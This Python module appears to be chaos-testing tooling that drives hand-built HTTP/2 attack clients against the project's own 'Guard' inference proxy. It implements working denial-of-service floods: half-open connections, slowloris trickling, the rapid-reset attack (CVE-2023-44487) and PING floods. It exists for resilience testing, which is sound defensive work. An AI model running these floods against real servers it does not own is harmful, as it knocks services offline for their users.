"""Clients that mean harm: `python -m benchmarks.chaos.attacks KIND HOST:PORT NUMBER`, until standard input ends.

They speak HTTP/2 (RFC 9113) frame by frame, for no library would do this. `half-open` holds so many connections and
says nothing, or nothing after the preface; `loris` begins so many requests and sends a byte of each a second; `reset`
begins and resets so many requests a second (CVE-2023-44487); `ping` asks so many times a second whether Guard is there.

A line on standard output says that an attack is under way, another at the end, in JSON, what was done and heard.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import struct
import sys
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS = 1, 4
CANCEL, ENHANCE_YOUR_CALM = struct.pack(">I", 8), struct.pack(">I", 11)
_HEAD_BYTES = 9
_TICK_S = 0.01
_PER_CONNECTION = 50
_UNARY = "/inference.GRPCInferenceService/ModelInfer"
_FIELDS = (
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "guard"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(stream: int, *more: tuple[str, str], method: str = _UNARY) -> bytes:
    """The head of a call, of ModelInfer by default, its fields as plain literals (RFC 7541)."""
    fields = [(name.encode(), value.encode()) for name, value in ((":path", method), *_FIELDS, *more)]
    block = b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in fields)
    return frame(HEADERS, block, flags=END_HEADERS, stream=stream)


@dataclass(slots=True)
class Noted:
    """Connections and requests that were begun, and connections that Guard ended to calm somebody down."""

    connections: int = 0
    requests: int = 0
    calmed: int = 0


NOTED = Noted()
UNDER_WAY = asyncio.Event()


class Line:
    """A connection whose answers nobody reads, but for its end and why."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self.stream = -1
        self._sink = asyncio.create_task(self._read(reader))

    @property
    def over(self) -> bool:
        """Whether Guard has ended it."""
        return self._sink.done()

    def next_stream(self) -> int:
        """The number of the next request on it."""
        self.stream += 2
        NOTED.requests += 1
        return self.stream

    async def _read(self, reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await reader.readexactly(_HEAD_BYTES)
                told = await reader.readexactly(int.from_bytes(head[:3]))
                NOTED.calmed += head[3] == GOAWAY and told[4:8] == ENHANCE_YOUR_CALM
        self.writer.close()


async def opened(address: str, first: bytes) -> Line:
    """A new connection, and the first that is said on it."""
    host, _, port = address.rpartition(":")
    line = Line(*await asyncio.open_connection(host, int(port)))
    line.writer.write(first)
    NOTED.connections += 1
    return line


async def half_open(address: str, number: int) -> None:
    """Hold connections that never become any; those that Guard ends are opened again."""
    lines: list[Line] = []
    while True:
        lines = [line for line in lines if not line.over]
        while len(lines) < number:
            lines.append(await opened(address, PREFACE if len(lines) % 2 else b""))
        UNDER_WAY.set()
        await asyncio.sleep(1.0)


async def loris(address: str, number: int) -> None:
    """Begin requests, and send each a byte a second."""
    lines: list[Line] = []
    while True:
        lines = [line for line in lines if not line.over]
        while len(lines) < -(-number // _PER_CONNECTION):
            line = await opened(address, PREFACE + frame(SETTINGS))
            for _ in range(_PER_CONNECTION):
                stream = line.next_stream()
                line.writer.write(request_headers(stream) + frame(DATA, b"\0" + struct.pack(">I", 3000), stream=stream))
            lines.append(line)
        for line in lines:
            line.writer.write(b"".join(frame(DATA, b"\0", stream=s) for s in range(1, line.stream + 1, 2)))
        UNDER_WAY.set()
        await asyncio.sleep(1.0)


async def resets(address: str, number: int) -> None:
    """Begin requests and take them back: half at once, half as soon as Guard has begun with them."""
    begun: dict[Line, list[int]] = {}

    def burst(line: Line) -> bytes:
        taken_back = begun.get(line, [])
        streams = [line.next_stream() for _ in range(round(number * _TICK_S))]
        begun.clear()
        begun[line] = streams[1::2]
        heads = b"".join(map(request_headers, streams))
        return heads + b"".join(frame(RST_STREAM, CANCEL, stream=s) for s in (*taken_back, *streams[::2]))

    await _flood(address, burst)


async def pings(address: str, number: int) -> None:
    """Ask whether Guard is there."""
    await _flood(address, lambda _: frame(PING, bytes(8)) * round(number * _TICK_S))


async def _flood(address: str, burst: Callable[[Line], bytes]) -> None:
    line = await opened(address, PREFACE + frame(SETTINGS))
    while True:
        if line.over:
            line = await opened(address, PREFACE + frame(SETTINGS))
        with contextlib.suppress(OSError):
            line.writer.write(burst(line))
            await line.writer.drain()
        UNDER_WAY.set()
        await asyncio.sleep(_TICK_S)


KINDS: dict[str, Callable[[str, int], Awaitable[None]]] = {
    "half-open": half_open,
    "loris": loris,
    "reset": resets,
    "ping": pings,
}


async def until_told(attack: Awaitable[None], under_way: asyncio.Event) -> None:
    """Go on until standard input ends, and say when it is under way."""
    running = asyncio.ensure_future(attack)
    until = asyncio.ensure_future(asyncio.to_thread(sys.stdin.read))
    begun = asyncio.ensure_future(under_way.wait())
    await asyncio.wait({running, until, begun}, return_when=asyncio.FIRST_COMPLETED)
    say("under way")
    await asyncio.wait({running, until}, return_when=asyncio.FIRST_COMPLETED)
    if running.done():
        running.result()


def say(line: str) -> None:
    """Tell who started this."""
    print(line, flush=True)  # noqa: T201 - it is what standard output is for


async def _main(kind: str, address: str, number: str) -> None:
    await until_told(KINDS[kind](address, int(number)), UNDER_WAY)
    say(json.dumps(asdict(NOTED)))


if __name__ == "__main__":
    asyncio.run(_main(*sys.argv[1:]))
